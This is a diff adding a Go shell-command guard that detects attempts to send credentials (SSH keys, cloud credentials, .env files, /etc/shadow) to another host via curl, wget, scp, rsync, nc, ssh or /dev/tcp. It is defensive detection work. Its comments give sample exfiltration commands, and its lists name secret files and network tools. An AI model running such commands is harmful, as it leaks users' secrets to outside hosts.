@@ -0,0 +1,346 @@
+package guard
+
+import (
+	"os"
+	"path"
+	"path/filepath"
+	"strings"
+
+	"mvdan.cc/sh/v3/syntax"
+)
+
+// secrets are credentials below the home directory, by path relative to it
+var secrets = []struct{ path, what string }{
+	{".ssh", "SSH keys"},
+	{".aws", "AWS credentials"},
+	{".azure", "Azure credentials"},
+	{".config/gcloud", "Google Cloud credentials"},
+	{".kube", "Kubernetes credentials"},
+	{".docker/config.json", "Docker registry credentials"},
+	{".gnupg", "GPG keys"},
+	{".netrc", "saved logins"},
+	{".git-credentials", "git credentials"},
+	{".baomihua/config.yaml", "baomihua's API keys"},
+}
+
+// envTemplates are .env.<suffix> files checked in as examples, without secrets
+var envTemplates = map[string]bool{
+	"example": true, "sample": true, "template": true, "dist": true, "defaults": true,
+}
+
+// secretOf returns what kind of secret the file at arg holds, or "" for none.
+// Public keys and the other harmless files in ~/.ssh are no secret.
+func secretOf(arg, dir string) string {
+	base := path.Base(arg)
+	if strings.HasSuffix(base, ".pub") || strings.HasPrefix(base, "known_hosts") || base == "authorized_keys" || base == "config" && strings.Contains(arg, ".ssh") {
+		return ""
+	}
+	if suffix, ok := strings.CutPrefix(base, ".env"); ok && (suffix == "" || suffix[0] == '.' && !envTemplates[suffix[1:]]) {
+		return "environment secrets"
+	}
+
+	p, ok := resolvePath(arg, dir)
+	if !ok {
+		return ""
+	}
+	p = filepath.ToSlash(p)
+	if p == "/etc/shadow" || p == "/etc/gshadow" {
+		return "password hashes"
+	}
+	home, _ := os.UserHomeDir()
+	if home == "" {
+		return ""
+	}
+	home = filepath.ToSlash(filepath.Clean(home))
+	if p == home {
+		return "the home directory, SSH keys and credentials included"
+	}
+	rel, ok := strings.CutPrefix(p, home+"/")
+	if !ok {
+		return ""
+	}
+	for _, s := range secrets {
+		if rel == s.path || strings.HasPrefix(rel, s.path+"/") {
+			return s.what
+		}
+	}
+	return ""
+}
+
+// sink is a command that sends data over the network
+type sink struct {
+	name  string
+	dest  string   // Where the data goes, a URL or a host
+	files []string // Files it uploads
+	stdin bool     // It sends what it reads from stdin
+}
+
+// sinkOf recognizes curl and wget uploads, scp and rsync to a remote host and
+// raw connections such as nc and ssh. ok is false for other commands.
+func sinkOf(words []word) (s sink, ok bool) {
+	name := commandName(words[0].text)
+	args := make([]string, 0, len(words)-1)
+	for _, w := range words[1:] {
+		args = append(args, w.text)
+	}
+	s.name = name
+
+	switch name {
+	case "curl":
+		// Data given inline may come from a command substitution
+		sends := false
+		for i := 0; i < len(args); i++ {
+			opt, value, hasValue := strings.Cut(args[i], "=")
+			if !strings.HasPrefix(opt, "--") {
+				// -d@file and -d @file
+				opt, value, hasValue = args[i], "", false
+				if len(opt) > 2 && strings.HasPrefix(opt, "-") && strings.ContainsAny(opt[1:2], "dFT") {
+					opt, value, hasValue = opt[:2], opt[2:], true
+				}
+			}
+			switch opt {
+			case "-d", "--data", "--data-binary", "--data-urlencode", "--json", "-F", "--form", "-T", "--upload-file":
+			default:
+				if strings.Contains(args[i], "://") && s.dest == "" {
+					s.dest = args[i]
+				}
+				continue
+			}
+			if !hasValue {
+				if i+1 == len(args) {
+					break
+				}
+				i++
+				value = args[i]
+			}
+			sends = true
+			file := value
+			switch opt {
+			case "-T", "--upload-file":
+			case "-F", "--form":
+				// name=@file or name=<file
+				_, file, _ = strings.Cut(value, "=")
+				file = strings.TrimLeft(file, "@<")
+				file, _, _ = strings.Cut(file, ";")
+			default:
+				// @file, or name@file for --data-urlencode
+				at := strings.Index(value, "@")
+				if at < 0 {
+					continue
+				}
+				file = value[at+1:]
+			}
+			if file == "-" || file == "." {
+				s.stdin = true
+			} else if file != "" {
+				s.files = append(s.files, file)
+			}
+		}
+		return s, sends
+	case "wget":
+		for i, arg := range args {
+			switch opt, value, _ := strings.Cut(arg, "="); {
+			case opt == "--post-file" || opt == "--body-file":
+				if value == "" && i+1 < len(args) {
+					value = args[i+1]
+				}
+				s.files = append(s.files, value)
+			case strings.Contains(arg, "://") && s.dest == "":
+				s.dest = arg
+			}
+		}
+		return s, len(s.files) > 0
+	case "scp", "rsync":
+		var operands []string
+		for i := 0; i < len(args); i++ {
+			if strings.HasPrefix(args[i], "-") {
+				if valueOpts[name][args[i]] {
+					i++
+				}
+				continue
+			}
+			operands = append(operands, args[i])
+		}
+		if len(operands) < 2 || !isRemote(operands[len(operands)-1]) {
+			return s, false
+		}
+		s.dest = operands[len(operands)-1]
+		s.files = operands[:len(operands)-1]
+		return s, true
+	case "nc", "ncat", "netcat", "socat", "telnet", "ssh":
+		var operands []string
+		for i := 0; i < len(args); i++ {
+			if strings.HasPrefix(args[i], "-") && args[i] != "-" {
+				if valueOpts[name][args[i]] {
+					i++
+				}
+				continue
+			}
+			operands = append(operands, args[i])
+		}
+		if len(operands) == 0 {
+			return s, false
+		}
+		s.dest = strings.Join(operands, " ")
+		if name == "ssh" {
+			// The rest is the remote command
+			s.dest = operands[0]
+		}
+		s.stdin = true
+		return s, true
+	}
+	return s, false
+}
+
+// valueOpts are the options of network commands that take a separate value,
+// such as the identity file of ssh -i
+var valueOpts = map[string]map[string]bool{
+	"scp":    {"-i": true, "-P": true, "-o": true, "-F": true, "-J": true, "-c": true, "-l": true, "-S": true},
+	"rsync":  {"-e": true, "--rsh": true, "--port": true, "--password-file": true},
+	"ssh":    {"-i": true, "-p": true, "-o": true, "-F": true, "-J": true, "-l": true, "-L": true, "-R": true, "-D": true, "-W": true, "-b": true, "-c": true, "-E": true, "-e": true, "-m": true, "-O": true, "-Q": true, "-S": true, "-w": true, "-B": true, "-I": true},
+	"nc":     {"-p": true, "-w": true, "-s": true, "-i": true, "-q": true, "-x": true, "-X": true, "-I": true, "-O": true, "-T": true},
+	"ncat":   {"-p": true, "-w": true, "-s": true, "-i": true, "-e": true, "-c": true, "--proxy": true, "--sh-exec": true, "--exec": true},
+	"netcat": {"-p": true, "-w": true, "-s": true, "-i": true, "-q": true},
+}
+
+// isRemote reports whether an scp or rsync operand names another host, as in
+// host:path, user@host:path or rsync://host/module
+func isRemote(operand string) bool {
+	if strings.Contains(operand, "://") {
+		return true
+	}
+	host, _, found := strings.Cut(operand, ":")
+	return found && host != "" && !strings.Contains(host, "/")
+}
+
+// tcpDevice returns host/port for bash's /dev/tcp and /dev/udp redirections
+func tcpDevice(target string) (string, bool) {
+	for _, prefix := range []string{"/dev/tcp/", "/dev/udp/"} {
+		if rest, ok := strings.CutPrefix(target, prefix); ok {
+			return rest, true
+		}
+	}
+	return "", false
+}
+
+// checkExfiltration flags statements that send a secret such as an SSH key, a
+// cloud credential or a .env file to another host: uploads with curl, wget,
+// scp or rsync, and files fed into nc, ssh or /dev/tcp, also through a pipe or
+// a command substitution. The verdict names both the secret and where it goes.
+func checkExfiltration(stmt *syntax.Stmt, dir string) Verdict {
+	stages := pipelineStages(stmt)
+	for i, stage := range stages {
+		words, _ := callWords(stage)
+		var s sink
+		ok := false
+		if len(words) > 0 {
+			s, ok = sinkOf(words)
+		}
+		for _, r := range stage.Redirs {
+			if r.Word == nil || !writesTo(r.Op) {
+				continue
+			}
+			if dest, isTCP := tcpDevice(wordText(r.Word)); isTCP {
+				// cat ~/.ssh/id_rsa > /dev/tcp/host/port
+				s = sink{name: "/dev/tcp", dest: dest, stdin: true}
+				for _, w := range words[min(1, len(words)):] {
+					s.files = append(s.files, w.text)
+				}
+				ok = true
+			}
+		}
+		if !ok {
+			continue
+		}
+
+		src, what := "", ""
+		for _, file := range s.files {
+			if what = secretOf(file, dir); what != "" {
+				src = file
+				break
+			}
+		}
+		if what == "" {
+			src, what = substSecret(stage, dir)
+		}
+		if what == "" && s.stdin {
+			src, what = inputSecret(stage, dir)
+			for _, prev := range stages[:i] {
+				if what != "" {
+					break
+				}
+				src, what = stageSecret(prev, dir)
+			}
+		}
+		if what == "" {
+			continue
+		}
+
+		dest := s.dest
+		if dest == "" {
+			dest = "another host"
+		}
+		name := strings.TrimPrefix(s.name, "/dev/")
+		return Verdict{
+			Level:  Danger,
+			RuleID: "exfil-" + name,
+			Reason: "sends " + what + " (" + src + ") to " + dest + " with " + s.name,
+			Span:   nodeSpan(stmt),
+			Detail: src + " → " + dest,
+		}
+	}
+	return Verdict{Level: Safe}
+}
+
+// stageSecret looks for a secret read by one command of a pipeline, in its
+// arguments, its input or a command substitution
+func stageSecret(stmt *syntax.Stmt, dir string) (src, what string) {
+	words, _ := callWords(stmt)
+	for _, w := range words[min(1, len(words)):] {
+		if what = secretOf(w.text, dir); what != "" {
+			return w.text, what
+		}
+	}
+	if src, what = inputSecret(stmt, dir); what != "" {
+		return src, what
+	}
+	return substSecret(stmt, dir)
+}
+
+// inputSecret returns the secret redirected into stmt's stdin, as in nc host 80 < .env
+func inputSecret(stmt *syntax.Stmt, dir string) (src, what string) {
+	for _, r := range stmt.Redirs {
+		if r.Op == syntax.RdrIn && r.Word != nil {
+			if what = secretOf(wordText(r.Word), dir); what != "" {
+				return wordText(r.Word), what
+			}
+		}
+	}
+	return "", ""
+}
+
+// substSecret looks for a secret read by a command substitution in the
+// arguments of stmt, as in curl -d "$(cat ~/.aws/credentials)" or "$(< .env)"
+func substSecret(stmt *syntax.Stmt, dir string) (src, what string) {
+	call, ok := stmt.Cmd.(*syntax.CallExpr)
+	if !ok {
+		return "", ""
+	}
+	for _, arg := range call.Args {
+		syntax.Walk(arg, func(node syntax.Node) bool {
+			subst, ok := node.(*syntax.CmdSubst)
+			if what != "" || !ok {
+				return what == ""
+			}
+			for _, s := range subst.Stmts {
+				for _, stage := range pipelineStages(s) {
+					if src, what = stageSecret(stage, dir); what != "" {
+						return false
+					}
+				}
+			}
+			return false
+		})
+	}
+	return src, what
+}